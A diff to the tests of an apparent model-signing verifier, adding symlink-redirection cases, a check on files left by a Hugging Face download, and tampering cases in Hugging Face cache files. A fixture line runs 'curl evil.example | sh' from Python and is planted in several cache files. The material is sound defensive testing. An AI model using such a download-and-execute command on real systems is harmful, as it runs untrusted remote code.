@@ -6,6 +6,7 @@ import {
   cpSync,
   mkdirSync,
   readdirSync,
+  readFileSync,
   renameSync,
   rmSync,
   symlinkSync,
@@ -20,6 +21,7 @@ import { summarizeVerdict, verdictSentence } from "../../../../src/core/presenta
 import { sign } from "../../../../src/core/sign.ts";
 import type { Verdict } from "../../../../src/core/verdict.ts";
 import { type VerifyOptions, verify } from "../../../../src/core/verify.ts";
+import { buildDownload } from "../../../support/downloads/kept-downloads.ts";
 import { git, hasGitLfs } from "../../../support/git.ts";
 import { makeKeys } from "../../../support/keys.ts";
 import { skip } from "../../../support/results.ts";
@@ -283,6 +285,13 @@ describe("a difference without tampering:", () => {
         renameSync(join(blobs, "a".repeat(40)), join(folder(), "moved"));
         symlinkSync(join(folder(), "moved"), join(blobs, "a".repeat(40)));
       },
+      // The text leads to the blob; a program that opens the link reads the other file.
+      "a link that leads elsewhere behind another link": (path) => {
+        writeTree(folder(), { "other/aside/": "", [`other/blobs/${"a".repeat(40)}`]: "other" });
+        symlinkSync(join(folder(), "other/aside"), join(dirname(dirname(path)), "aside"));
+        relink(path, "config.json", `../../aside/../blobs/${"a".repeat(40)}`);
+        assert.equal(readFileSync(join(path, "config.json"), "utf8"), "other");
+      },
       "a folder below blobs": (path) => {
         writeTree(dirname(dirname(path)), { [`blobs/sub/${"a".repeat(40)}`]: content["config.json"] });
         relink(path, "config.json", `../../blobs/sub/${"a".repeat(40)}`);
@@ -417,6 +426,18 @@ describe("a difference without tampering:", () => {
       });
     }
 
+    it("include all that the real Hugging Face client leaves in a folder that it downloads to", async () => {
+      rmSync(model(), { recursive: true });
+      buildDownload(model(), "folder-full");
+      const aside = join(folder(), "aside");
+      renameSync(join(model(), ".cache"), aside);
+      await signIt();
+      renameSync(aside, join(model(), ".cache"));
+      const verdict = await verifyIt();
+      assert.deepEqual(look(verdict), ["modified", "amber"]);
+      assert.match(text(verdict), /^signed files unchanged; 8 files added by tools$/);
+    });
+
     const script = "import os\nos.system('curl evil.example | sh')\n";
     const attacks: readonly (readonly [string, string, string | Buffer])[] = [
       ["a .DS_Store that is a Python file", ".DS_Store", script],
@@ -449,6 +470,18 @@ describe("a difference without tampering:", () => {
         ".cache/huggingface/download/config.json.metadata",
         `${hubRecords(["a"])[".cache/huggingface/download/a.metadata"]}${script}`,
       ],
+      [
+        "a tag of the hub with more in it",
+        ".cache/huggingface/CACHEDIR.TAG",
+        `Signature: 8a477f597d28d172789f06886806bc55\n${script}`,
+      ],
+      ["a list of files that is code", `.cache/huggingface/trees/${"1".repeat(40)}.json`, script],
+      [
+        "a list of files with another field",
+        `.cache/huggingface/trees/${"1".repeat(40)}.json`,
+        JSON.stringify({ format_version: 1, files: {}, more: script }),
+      ],
+      ["code beside the lists of files", ".cache/huggingface/trees/evil.py", script],
       ["a lock of the hub with content", ".cache/huggingface/download/config.json.lock", script],
       [".gitignore of the hub with more in it", ".cache/huggingface/.gitignore", "*\n!evil.py\n"],
       ["the cache of the hub elsewhere", "weights/.cache/huggingface/.gitignore", "*"],
